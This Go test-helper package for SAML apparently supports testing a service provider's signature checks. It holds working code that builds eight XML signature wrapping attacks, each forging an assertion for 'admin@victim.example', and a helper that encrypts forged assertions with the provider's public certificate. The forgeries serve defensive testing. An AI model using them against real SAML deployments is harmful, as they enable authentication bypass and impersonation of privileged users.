package samltest

import (
	"crypto/x509"
	"encoding/base64"
	"testing"

	"github.com/beevik/etree"
	"github.com/crewjam/saml/xmlenc"
)

// Evil is the NameID the attack helpers put in a forged assertion.
const Evil = "admin@victim.example"

// Decode parses a base64 SAMLResponse.
func Decode(t testing.TB, samlResponse string) *etree.Document {
	t.Helper()
	raw, err := base64.StdEncoding.DecodeString(samlResponse)
	if err != nil {
		t.Fatalf("samltest: base64: %v", err)
	}
	doc := etree.NewDocument()
	if err := doc.ReadFromBytes(raw); err != nil {
		t.Fatalf("samltest: xml: %v", err)
	}
	return doc
}

// Encode serialises a document as a base64 SAMLResponse.
func Encode(t testing.TB, doc *etree.Document) string {
	t.Helper()
	raw, err := doc.WriteToBytes()
	if err != nil {
		t.Fatalf("samltest: xml: %v", err)
	}
	return base64.StdEncoding.EncodeToString(raw)
}

// Edit decodes samlResponse, lets fn change it and encodes the result.
func Edit(t testing.TB, samlResponse string, fn func(doc *etree.Document)) string {
	t.Helper()
	doc := Decode(t, samlResponse)
	fn(doc)
	return Encode(t, doc)
}

// Assertion returns the Response's (first) Assertion child.
func Assertion(t testing.TB, doc *etree.Document) *etree.Element {
	t.Helper()
	for _, el := range doc.Root().ChildElements() {
		if el.Tag == "Assertion" {
			return el
		}
	}
	t.Fatalf("samltest: response has no Assertion child (is it encrypted?)")
	return nil
}

// Child returns el's first child element with the local name tag, or nil.
func Child(el *etree.Element, tag string) *etree.Element {
	for _, c := range el.ChildElements() {
		if c.Tag == tag {
			return c
		}
	}
	return nil
}

// Descendant returns the first element below el with the local name tag, or
// nil.
func Descendant(el *etree.Element, tag string) *etree.Element {
	for _, c := range el.ChildElements() {
		if c.Tag == tag {
			return c
		}
		if d := Descendant(c, tag); d != nil {
			return d
		}
	}
	return nil
}

// StripSignature removes el's enveloped ds:Signature, if any.
func StripSignature(el *etree.Element) {
	if sig := Child(el, "Signature"); sig != nil {
		el.RemoveChild(sig)
	}
}

// SetNameID replaces the text of the assertion's NameID.
func SetNameID(t testing.TB, assertion *etree.Element, value string) {
	t.Helper()
	n := Descendant(assertion, "NameID")
	if n == nil {
		t.Fatalf("samltest: assertion has no NameID")
	}
	n.SetText(value)
}

// XSW builds signature wrapping attack number n (1–8, after Somorovsky et
// al., "On Breaking SAML", 2012, as SAML Raider names them) from a response
// signed by the IdP (Response and Assertion both signed, not encrypted). The
// forged assertion names Evil. Each variant keeps the original signed element
// somewhere a naive verifier would find it, and puts the forged one where a
// naive consumer would read it:
//
//  1. original Response inside the forged Response's Signature;
//  2. original Response beside (before) the forged Response's Signature;
//  3. forged unsigned Assertion before the original signed one;
//  4. original Assertion inside the forged unsigned Assertion;
//  5. forged Assertion keeps the Signature, an unsigned copy of the original
//     is appended to the Response;
//  6. forged Assertion keeps the Signature, the original Assertion is
//     inside that Signature;
//  7. original Assertion inside a samlp:Extensions element, forged unsigned
//     Assertion in its place;
//  8. forged Assertion keeps the Signature, an unsigned copy of the original
//     is inside a ds:Object of that Signature.
//
// Variants 3–8 attack the assertion's signature, so the Response signature is
// removed first (it would otherwise fail trivially).
func XSW(t testing.TB, n int, samlResponse string) string {
	t.Helper()
	doc := Decode(t, samlResponse)
	resp := doc.Root()
	a := Assertion(t, doc)
	forge := func(el *etree.Element) {
		el.CreateAttr("ID", "_evil")
		SetNameID(t, el, Evil)
	}
	switch n {
	case 1, 2:
		orig := resp.Copy()
		sig := Child(resp, "Signature")
		if sig == nil {
			t.Fatalf("samltest: xsw%d needs a signed Response", n)
		}
		forge(resp) // the NameID found first is the assertion's
		if n == 1 {
			sig.AddChild(orig)
		} else {
			resp.InsertChildAt(sig.Index(), orig)
		}
	case 3:
		StripSignature(resp)
		ev := a.Copy()
		StripSignature(ev)
		forge(ev)
		resp.InsertChildAt(a.Index(), ev)
	case 4:
		StripSignature(resp)
		ev := a.Copy()
		StripSignature(ev)
		forge(ev)
		idx := a.Index()
		resp.RemoveChild(a)
		ev.AddChild(a)
		resp.InsertChildAt(idx, ev)
	case 5:
		StripSignature(resp)
		orig := a.Copy()
		StripSignature(orig)
		forge(a)
		resp.AddChild(orig)
	case 6:
		StripSignature(resp)
		orig := a.Copy()
		forge(a)
		Child(a, "Signature").AddChild(orig)
	case 7:
		StripSignature(resp)
		orig := a.Copy()
		ext := etree.NewElement("samlp:Extensions")
		ext.AddChild(orig)
		resp.InsertChildAt(Child(resp, "Issuer").Index()+1, ext)
		StripSignature(a)
		forge(a)
	case 8:
		StripSignature(resp)
		orig := a.Copy()
		StripSignature(orig)
		obj := etree.NewElement("ds:Object")
		obj.AddChild(orig)
		Child(a, "Signature").AddChild(obj)
		forge(a)
	default:
		t.Fatalf("samltest: no XSW variant %d", n)
	}
	return Encode(t, doc)
}

// EncryptAssertion replaces the Response's Assertion with an
// EncryptedAssertion for cert, as crewjam's IdP encrypts by default
// (RSA-OAEP-MGF1P with SHA-1 key transport, AES-256-GCM). Anyone can do this
// with the SP's public certificate: encryption proves nothing about who made
// the assertion.
func EncryptAssertion(t testing.TB, doc *etree.Document, cert *x509.Certificate) {
	t.Helper()
	a := Assertion(t, doc)
	plain := etree.NewDocument()
	plain.SetRoot(a.Copy())
	buf, err := plain.WriteToBytes()
	if err != nil {
		t.Fatalf("samltest: %v", err)
	}
	enc := xmlenc.OAEP()
	enc.DigestMethod = &xmlenc.SHA1
	enc.BlockCipher = xmlenc.AES256GCM
	data, err := enc.Encrypt(cert, buf, nil)
	if err != nil {
		t.Fatalf("samltest: encrypt: %v", err)
	}
	data.CreateAttr("Type", "http://www.w3.org/2001/04/xmlenc#Element")
	ea := etree.NewElement("saml:EncryptedAssertion")
	ea.CreateAttr("xmlns:saml", "urn:oasis:names:tc:SAML:2.0:assertion")
	ea.AddChild(data)
	idx := a.Index()
	doc.Root().RemoveChild(a)
	doc.Root().InsertChildAt(idx, ea)
}
